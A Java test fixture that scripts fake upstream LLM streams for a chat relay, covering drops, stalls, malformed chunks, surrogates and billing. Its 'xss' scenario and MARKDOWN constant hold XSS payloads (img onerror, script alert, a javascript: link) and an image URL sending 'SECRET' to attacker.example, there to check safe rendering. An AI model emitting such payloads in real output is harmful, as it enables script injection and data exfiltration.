package org.chatrelay.testing;

import java.util.ArrayList;
import java.util.List;
import java.util.function.BooleanSupplier;

/**
 * The canned upstream streams, written in either dialect by {@link Frames}. Scenarios:
 * normal ("Hello world", usage 12/3, terminator); slow:N:ms (N tokens); forever:_:ms (tokens until aborted);
 * held:_:ms (tokens until the test calls {@link FakeUpstream#releaseHeld()}, then usage and the terminator);
 * cut (3 tokens, then the connection drops); error (2 tokens, then an error object); finishnodone (finish reason,
 * usage, no terminator); hang (headers only); length (finish reason length); nul (a NUL byte in the text);
 * xss (model output that is HTML: an img with onerror and a script element, to check the page shows it as text);
 * errorfirst (an overloaded error before any text, then the connection drops); stall (2 tokens, then silence with
 * the connection open); malformed (1 token, then a chunk that is not JSON); emptycut (no text, then the connection drops);
 * md (markdown: a heading, a table, a code block, a safe link, a javascript: link, an external image, raw HTML);
 * long:N:ms (an N-character markdown answer in word-sized tokens, one every ms); count ("Answer n", n counting
 * every count request, so two answers to the same question differ); surrogates (an emoji's surrogate pair split
 * across two chunks, then a lone high and a lone low surrogate: {@link #SURROGATES_SHOWN} is what a browser should
 * see); big:N (N pieces of 16 KiB, to fill a browser that stops reading);
 * think:ms:interval (reasoning pieces, one every
 * interval (100 ms), for about ms, then "Hello world"; OpenAI-compatible reports {@link #REASONING_TOKENS_PER_PIECE}
 * reasoning tokens a piece apart, Anthropic only counts them in the output); thinkforever:_:interval (reasoning until aborted);
 * thinkstall (3 pieces of reasoning, then silence with the connection open);
 * spend (bills the request's whole {@code max_tokens} or {@code max_completion_tokens}, all but one token reasoning,
 * finish reason length; {@link #SPEND_UNCAPPED} when the request set no cap).
 */
final class Script {
    static final String MARKDOWN = "# Heading\n\nSome **bold** text, a [safe link](https://example.org/docs), "
            + "a [bad link](javascript:alert(1)) and an image ![secret](https://attacker.example/p?d=SECRET).\n\n"
            + "| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nconsole.log(\"copied <ok>\");\n```\n\n<img src=x onerror=alert(1)>\n";
    /** What the {@code surrogates} scenario should read as: the pair joined, each lone half U+FFFD. */
    static final String SURROGATES_SHOWN = "Smile \ud83d\ude00! lone \ufffd low \ufffd end";
    static final int REASONING_TOKENS_PER_PIECE = 12;
    /** What the {@code spend} scenario bills for a request that sets no output cap: a model that wrote to its own limit. */
    static final int SPEND_UNCAPPED = 32_000;
    private static final java.util.concurrent.atomic.AtomicInteger COUNT = new java.util.concurrent.atomic.AtomicInteger();

    enum Kind { FRAME, END, CUT, HANG }

    record Step(Kind kind, byte[] bytes) {
    }

    private final List<Step> steps;
    private final Frames frames;
    /** The frame repeated after the steps until the client aborts; null: the stream ends. */
    private final String forever;
    /** For {@code held}: once true, the repetition stops and {@link #ending} follows; null: repeat until aborted. */
    private final BooleanSupplier released;
    private final List<Step> ending;
    /** The step at which {@link #released} was first seen true; one script plays one request, on one thread at a time. */
    private int endingFrom = -1;

    private Script(List<Step> steps, Frames frames, String forever) {
        this(steps, frames, forever, null, List.of());
    }

    private Script(List<Step> steps, Frames frames, String forever, BooleanSupplier released, List<Step> ending) {
        this.steps = steps;
        this.frames = frames;
        this.forever = forever;
        this.released = released;
        this.ending = ending;
    }

    Step step(int i) {
        if (i < steps.size()) {
            return steps.get(i);
        }
        if (released != null && endingFrom < 0 && released.getAsBoolean()) {
            endingFrom = i;
        }
        if (endingFrom >= 0) {
            return i - endingFrom < ending.size() ? ending.get(i - endingFrom) : new Step(Kind.END, null);
        }
        return forever != null ? frame(forever) : new Step(Kind.END, null);
    }

    static Script of(String scenario, int a, int b, Frames f, long intervalMs, BooleanSupplier released) {
        List<Step> s = new ArrayList<>();
        if (scenario.startsWith("think")) {
            return thinking(scenario, a, f, intervalMs);
        }
        if (scenario.equals("tool")) {
            f.toolCall().forEach(x -> s.add(frame(x)));
            return new Script(s, f, null);
        }
        f.begin().forEach(x -> s.add(frame(x)));
        switch (scenario) {
            case "slow" -> {
                for (int i = 0; i < (a > 0 ? a : 10); i++) {
                    s.add(frame(f.text("t" + i + " ")));
                }
                finish(s, f, "stop", true);
            }
            case "forever" -> {
                return new Script(s, f, f.text("tick "));
            }
            case "held" -> {
                List<Step> ending = new ArrayList<>();
                finish(ending, f, "stop", true);
                return new Script(s, f, f.text("tick "), released, ending);
            }
            case "cut" -> {
                s.add(frame(f.text("One ")));
                s.add(frame(f.text("two ")));
                s.add(frame(f.text("three")));
                s.add(new Step(Kind.CUT, null));
            }
            case "error" -> {
                s.add(frame(f.text("Partial ")));
                s.add(frame(f.text("answer")));
                s.add(frame(f.error("server_error", "upstream failed")));
                s.add(new Step(Kind.CUT, null));
            }
            case "errorfirst" -> {
                s.add(frame(f.error("overloaded_error", "Overloaded")));
                s.add(new Step(Kind.CUT, null));
            }
            case "stall" -> {
                s.add(frame(f.text("Stalled ")));
                s.add(frame(f.text("here")));
                s.add(new Step(Kind.HANG, null));
            }
            case "malformed" -> {
                s.add(frame(f.text("Before ")));
                s.add(frame(f.malformed()));
                s.add(frame(f.text("after")));
                finish(s, f, "stop", true);
            }
            case "emptycut" -> s.add(new Step(Kind.CUT, null));
            case "finishnodone" -> {
                s.add(frame(f.text("Almost")));
                finish(s, f, "stop", false);
            }
            case "hang" -> s.add(new Step(Kind.HANG, null));
            case "length" -> {
                s.add(frame(f.text("Too long")));
                finish(s, f, "length", true);
            }
            case "spend" -> {
                // The dearest answer a provider may bill: every output token it was allowed, all but one of them reasoning.
                int output = a > 0 ? a : SPEND_UNCAPPED;
                s.add(frame(f.text("Spent")));
                f.finish("length", 12, output, output - 1, true).forEach(x -> s.add(frame(x)));
            }
            case "xss" -> {
                s.add(frame(f.text("<img src=x onerror=alert(1)>")));
                s.add(frame(f.text("<script>alert(2)</script>")));
                finish(s, f, "stop", true);
            }
            case "md" -> {
                for (String piece : pieces(MARKDOWN)) {
                    s.add(frame(f.text(quoted(piece))));
                }
                finish(s, f, "stop", true);
            }
            case "long" -> {
                for (String piece : pieces(longText(a > 0 ? a : 20_000))) {
                    s.add(frame(f.text(quoted(piece))));
                }
                finish(s, f, "stop", true);
            }
            case "count" -> {
                s.add(frame(f.text("Answer ")));
                s.add(frame(f.text(Integer.toString(COUNT.incrementAndGet()))));
                finish(s, f, "stop", true);
            }
            case "surrogates" -> {
                // JSON escapes, as providers send them: each chunk alone is not well-formed UTF-16.
                for (String piece : List.of("Smile \\ud83d", "\\ude00!", " lone \\ud83d", " low \\ude00", " end")) {
                    s.add(frame(f.text(piece)));
                }
                finish(s, f, "stop", true);
            }
            case "big" -> {
                String piece = "x".repeat(16 * 1024);
                for (int i = 0; i < (a > 0 ? a : 100); i++) {
                    s.add(frame(f.text(piece)));
                }
                finish(s, f, "stop", true);
            }
            case "nul" -> {
                s.add(frame(f.text("a\\u0000b")));
                finish(s, f, "stop", true);
            }
            default -> {
                s.add(frame(f.text("Hel")));
                s.add(frame(f.text("lo")));
                s.add(frame(f.text(" world")));
                finish(s, f, "stop", true);
            }
        }
        return new Script(s, f, null);
    }

    /** A model that reasons first: think:ms (then "Hello world") or thinkforever (never answers). */
    private static Script thinking(String scenario, int thinkMs, Frames f, long intervalMs) {
        List<Step> s = new ArrayList<>();
        f.thinkBegin().forEach(x -> s.add(frame(x)));
        if (scenario.equals("thinkforever")) {
            return new Script(s, f, f.reasoning("hmm "));
        }
        if (scenario.equals("thinkstall")) {
            for (int i = 0; i < 3; i++) {
                s.add(frame(f.reasoning("Stalling " + i + ". ")));
            }
            s.add(new Step(Kind.HANG, null));
            return new Script(s, f, null);
        }
        // The begin frames are paced too: the first answer word leaves about thinkMs after the response began.
        int pieces = (int) Math.max(1, (thinkMs > 0 ? thinkMs : 2000) / intervalMs - s.size());
        for (int i = 0; i < pieces; i++) {
            s.add(frame(f.reasoning("Step " + (i + 1) + ": \\\"weigh\\\" <b>this</b>. ")));
        }
        f.thinkEnd().forEach(x -> s.add(frame(x)));
        s.add(frame(f.textAfterThinking("Hello")));
        s.add(frame(f.textAfterThinking(" world")));
        int reasoning = pieces * REASONING_TOKENS_PER_PIECE;
        f.finish("stop", 12, 2 + reasoning, reasoning, true).forEach(x -> s.add(frame(x)));
        return new Script(s, f, null);
    }

    /** Deterministic markdown of exactly {@code chars} characters: headings, paragraphs, lists and code blocks. */
    static String longText(int chars) {
        StringBuilder b = new StringBuilder(chars + 200);
        for (int i = 0; b.length() < chars; i++) {
            switch (i % 4) {
                case 0 -> b.append("## Part ").append(i / 4 + 1).append("\n\n");
                case 1 -> b.append("Streaming answers must stay smooth however long they grow; paragraph ").append(i)
                        .append(" adds more words to the page, and each word arrives as its own token.\n\n");
                case 2 -> b.append("- first point of ").append(i).append("\n- second point, with `inline code`\n- third point\n\n");
                default -> b.append("```java\nint total = ").append(i).append(";\nfor (int k = 0; k < 9; k++) { total += k; }\n```\n\n");
            }
        }
        return b.substring(0, chars);
    }

    /** Word-sized pieces that keep their trailing whitespace, the way providers stream tokens. */
    static List<String> pieces(String text) {
        List<String> out = new ArrayList<>();
        int start = 0;
        for (int i = 1; i <= text.length(); i++) {
            if (i == text.length() || Character.isWhitespace(text.charAt(i - 1)) && !Character.isWhitespace(text.charAt(i))) {
                out.add(text.substring(start, i));
                start = i;
            }
        }
        return out;
    }

    /** The text as the inside of a JSON string (the frames take it already escaped). */
    private static String quoted(String text) {
        return new String(com.fasterxml.jackson.core.io.JsonStringEncoder.getInstance().quoteAsString(text));
    }

    private static void finish(List<Step> s, Frames f, String reason, boolean terminator) {
        // finishnodone keeps the old shape: the usage of a stream that never said it was done is 12/1.
        f.finish(reason, 12, terminator ? 3 : 1, terminator).forEach(x -> s.add(frame(x)));
    }

    private static Step frame(String frame) {
        return new Step(Kind.FRAME, Frames.bytes(frame));
    }
}
